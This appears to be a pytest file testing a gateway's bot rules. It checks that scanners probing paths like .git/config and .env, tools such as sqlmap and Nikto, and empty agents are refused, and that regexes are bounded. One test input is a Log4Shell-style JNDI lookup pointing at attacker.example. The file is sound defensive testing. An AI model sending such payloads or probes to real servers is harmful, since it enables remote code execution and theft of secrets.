"""Rules against bots at a live gateway: each refuses its example, none refuses what a route declares."""

from __future__ import annotations

from dataclasses import replace

import pytest

from gateway.live import Live
from kronborg.gateway.bot_rules import KNOWN
from kronborg.gateway.content_model import BotRule, Bots
from kronborg.gateway.content_problems import expression_is_safe
from kronborg.gateway.model import Path, Route, Snapshot
from kronborg.gateway.reasons import REASONS, reason_of
from kronborg.gateway.validate import problems_of

AGENT = {"user-agent": "shop/1.0"}
OPEN = Route("open", Path("prefix", "/"), "echo", public=True)
OWN = BotRule("old-client", agent="shop/0\\..*")


def guarded(gateway: Live, *routes: Route, bots: Bots | None) -> None:
    gateway.deliver(replace(gateway.snapshot(*routes), bots=bots))


@pytest.fixture(scope="module")
def refusing(gateway: Live) -> Live:
    guarded(
        gateway,
        OPEN,
        Route("repository", Path("prefix", "/repo/.git"), "echo", public=True),
        Route("lenient", Path("prefix", "/lenient"), "echo", public=True, bots=Bots(mode="off")),
        Route("reported", Path("prefix", "/reported"), "echo", public=True, bots=Bots(mode="report")),
        Route("own", Path("prefix", "/own"), "echo", public=True, bots=Bots(skip=("no-agent",), rules=(OWN,))),
        bots=Bots(),
    )
    return gateway


@pytest.mark.parametrize("rule", [rule for rule in KNOWN if rule.path], ids=lambda rule: rule.id)
def test_a_scanner_is_refused_by_its_path(refusing: Live, rule: object) -> None:
    example = rule.example  # type: ignore[attr-defined]

    answer = refusing.get(example, headers=AGENT)
    louder = refusing.get(example.upper(), headers=AGENT)

    assert (answer.status, answer.json()["reason"]) == (403, "bot_rule")
    assert louder.status == 403


@pytest.mark.parametrize(
    "agent", ["sqlmap/1.8#stable", "Mozilla/5.0 Nikto/2.5", "", "-", "${jndi:ldap://attacker.example/a}", None]
)
def test_a_scanner_is_refused_by_its_name(refusing: Live, agent: str | None) -> None:
    answer = refusing.get("/shop", headers={} if agent is None else {"user-agent": agent})

    assert (answer.status, answer.json()["reason"]) == (403, "bot_rule")


@pytest.mark.spec("RFC 9110 §9.3.1")
def test_a_get_with_a_body_is_refused(refusing: Live) -> None:
    odd = refusing.request("GET", "/shop", headers=AGENT, body=b"hello")
    empty = refusing.request("GET", "/shop", headers=AGENT, body=b"")

    assert (odd.status, empty.status) == (403, 200)


@pytest.mark.parametrize(
    "path",
    [
        *("/shop", "/gitlab/project", "/environment", "/.well-known/openid-configuration", "/wp", "/backup/today"),
        *("/orders/shell", "/console", "/site.zipped", "/admin", "/repo/.git/config", "/shop?file=/.git/config"),
    ],
)
def test_people_pass(refusing: Live, path: str) -> None:
    answer = refusing.get(path, headers={"user-agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"})

    assert answer.status == 200


def test_routes_say_otherwise(refusing: Live) -> None:
    lenient = refusing.get("/lenient/.env", headers=AGENT)
    reported = refusing.get("/reported/.env", headers=AGENT)
    silent = refusing.get("/own")
    old = refusing.get("/own", headers={"user-agent": "shop/0.9"})
    still = refusing.get("/own/.env", headers=AGENT)

    assert [one.status for one in (lenient, reported, silent, old, still)] == [200, 200, 200, 403, 403]


def test_hosts_that_no_route_serves_are_scanned_in_vain(refusing: Live) -> None:
    scanned = refusing.get("/.git/config", headers=AGENT, host="other.example")
    lost = refusing.get("/lost", headers=AGENT, host="other.example")

    assert (scanned.status, lost.status) == (403, 421)


def test_the_record_names_the_rule() -> None:
    known = reason_of("rbac_access_denied_matched_policy[bot_rule:hidden-files]", "", 403, "")
    own = reason_of("rbac_access_denied_matched_policy[bot_rule:old-client]", "", 403, "")

    assert (known, own) == ("bot_rule:hidden-files", "bot_rule")
    assert REASONS[known].stage == "bots"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (r".*/old/.*", True),
        (r"shop/[0-9]{1,3}", True),
        (r"(?:a|b)*c", True),
        (r"(?=x)", False),
        (r"(a)\1", False),
        (r"a{1000}", False),
        (r"(?:a{50}){50}", False),
        (r"a++", False),
        ("(", False),
        ("a" * 257, False),
        ("", False),
    ],
)
def test_expressions_of_operators_are_bounded(text: str, safe: bool) -> None:
    assert expression_is_safe(text) is safe


def test_rules_that_cannot_stand_are_told() -> None:
    wrong = (BotRule("hidden-files", path="/x"), BotRule("Upper", path="/x"), BotRule("all"), BotRule("bad", path="("))
    snapshot = Snapshot("https://id.example", routes=(replace(OPEN, bots=Bots(rules=wrong, skip=("nothing",))),))

    found = [problem.where for problem in problems_of(snapshot) if ".bots" in problem.where]

    assert found == ["routes.open.bots.skip", *["routes.open.bots.rules"] * 4]
